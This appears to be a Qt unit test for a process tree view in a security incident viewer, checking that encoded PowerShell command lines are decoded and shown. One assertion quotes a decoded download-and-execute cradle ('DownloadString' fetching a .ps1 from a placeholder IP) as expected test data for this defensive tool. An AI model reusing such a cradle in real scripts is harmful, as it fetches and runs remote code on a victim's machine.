// SPDX-License-Identifier: GPL-3.0-or-later
// What a person sees of processes: the tree open, the command line whole, what it hides beside it.
#include "models/incident/decode.h"
#include "models/process/processtreemodel.h"
#include "ui/process/processview.h"

#include <QApplication>
#include <QFile>
#include <QLabel>
#include <QPlainTextEdit>
#include <QSignalSpy>
#include <QTest>
#include <QTreeView>

using namespace utkik;

Q_DECLARE_METATYPE(utkik::Record)

namespace
{

Incident sample(qint64 id)
{
    QFile file(QStringLiteral(UTKIK_SAMPLE_FOLDER "/%1.json").arg(id));
    if (!file.open(QIODevice::ReadOnly))
        qFatal("no sample incident %lld", static_cast<long long>(id));
    return decodeIncident(file.readAll()).value();
}

std::shared_ptr<const EvidenceList> evidenceFor(const Incident &incident)
{
    return std::make_shared<const EvidenceList>(evidenceOf(incident));
}

/// The first process entity whose command line has that text.
Record processWith(const Incident &incident, const QString &text)
{
    for (int i = 0; i < incident.entityCount(); ++i) {
        if (incident.entity(i).text(entityField("processCommandLine")).contains(text))
            return incident.entity(i);
    }
    return {};
}

} // namespace

class TestProcessView final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init()
    {
        m_incident = sample(924565);
        m_view = std::make_unique<ProcessView>(m_theme);
        m_view->resize(1000, 700);
        m_view->setEvidence(m_incident, evidenceFor(m_incident));
        m_view->show();
        QTRY_COMPARE(m_view->tree()->model()->rowCount(), 3); // devices
    }

    void hiddenCommandsAreReadable()
    {
        const Record process = processWith(m_incident, QStringLiteral("-enc"));
        QSignalSpy selected(m_view.get(), &ProcessView::recordSelected);
        QVERIFY(m_view->selectRecord(process));
        QCOMPARE(selected.size(), 0); // it was chosen elsewhere
        const auto texts = m_view->findChildren<QPlainTextEdit *>();
        QCOMPARE(texts.size(), 2);
        QCOMPARE(texts.at(0)->toPlainText(), process.text(entityField("processCommandLine")));
        QVERIFY(texts.at(1)->isVisible());
        QVERIFY(texts.at(1)->toPlainText().contains(QStringLiteral("DownloadString('http://203.0.113.77/u.ps1')")));
        QTest::keyClick(m_view->tree(), Qt::Key_Up);
        QCOMPARE(selected.size(), 1);
        QVERIFY(!texts.at(1)->isVisible()); // explorer.exe hides nothing
    }

    void choosesOnlyWhatIsThere()
    {
        QVERIFY(!m_view->selectRecord(m_incident.alert(0)));
        QVERIFY(!m_view->tree()->currentIndex().isValid());
        QVERIFY(m_view->selectRecord(m_incident.device(0)));
        QVERIFY(m_view->tree()->currentIndex().isValid());
    }

    void aNewerAnswerKeepsWhatIsChosenAndClosed()
    {
        m_view->selectRecord(processWith(m_incident, QStringLiteral("hearth.exe")));
        const QString chosen = m_view->tree()->currentIndex().data().toString();
        m_view->tree()->collapse(m_view->tree()->model()->index(2, 0));
        const Incident newer = sample(924565);
        m_view->setEvidence(newer, evidenceFor(newer));
        auto *const model = qobject_cast<ProcessTreeModel *>(m_view->tree()->model());
        QTRY_VERIFY(model->recordAt(m_view->tree()->currentIndex())
                    == processWith(newer, QStringLiteral("hearth.exe")));
        QCOMPARE(m_view->tree()->currentIndex().data().toString(), chosen);
        QVERIFY(!m_view->tree()->isExpanded(model->index(2, 0)));
        QVERIFY(m_view->tree()->isExpanded(model->index(0, 0)));
    }

    void saysThatThereIsNone()
    {
        const Incident none = sample(924605);
        m_view->setEvidence(none, evidenceFor(none));
        QTRY_VERIFY(!m_view->tree()->isVisible());
        const auto labels = m_view->findChildren<QLabel *>();
        QVERIFY(std::any_of(labels.begin(), labels.end(), [](const QLabel *label) {
            return label->isVisible()
                && label->text() == QStringLiteral("The alerts of this incident name no process.");
        }));
    }

private:
    Theme m_theme{*qApp};
    Incident m_incident;
    std::unique_ptr<ProcessView> m_view;
};

QTEST_MAIN(TestProcessView)
#include "tst_processview.moc"
